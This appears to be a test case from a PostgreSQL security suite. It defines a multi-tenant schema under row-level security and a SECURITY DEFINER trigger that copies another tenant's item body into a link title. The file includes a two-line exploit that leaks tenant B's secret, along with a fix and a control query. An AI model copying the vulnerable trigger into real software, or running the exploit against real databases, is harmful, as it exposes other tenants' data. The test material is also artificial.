-- What: A trigger with its owner's rights fills in the title of the item that a changed link names, whose ever it is.
-- Class: function_definer|trigger_copies
-- Object: public.retitle()
-- Exploit: A link of A's own is changed so that it names tenant B's item, and says its body.
-- Source: denormalised titles kept by triggers
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
create table links (id bigint generated always as identity primary key, tenant_id uuid not null, item_id bigint, title text);
alter table links enable row level security;
alter table links force row level security;
create policy tenant on links using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, update (item_id) on links to app_user;
-- @superuser
create function retitle() returns trigger language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  if tg_op = 'UPDATE' and new.item_id is distinct from old.item_id then
    select i.body into new.title from public.items i where i.id = new.item_id;
  end if;
  return new;
end $$;
create trigger retitle before insert or update of item_id on links for each row execute function retitle();
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
insert into links (tenant_id, item_id, title) values (:'A', 1, 'mine');
-- @fix
alter function retitle() security invoker;
-- @control
select from items where tenant_id = :'A';
-- @exploit
update links set item_id = 2;
select title from links where title = 'B-secret';
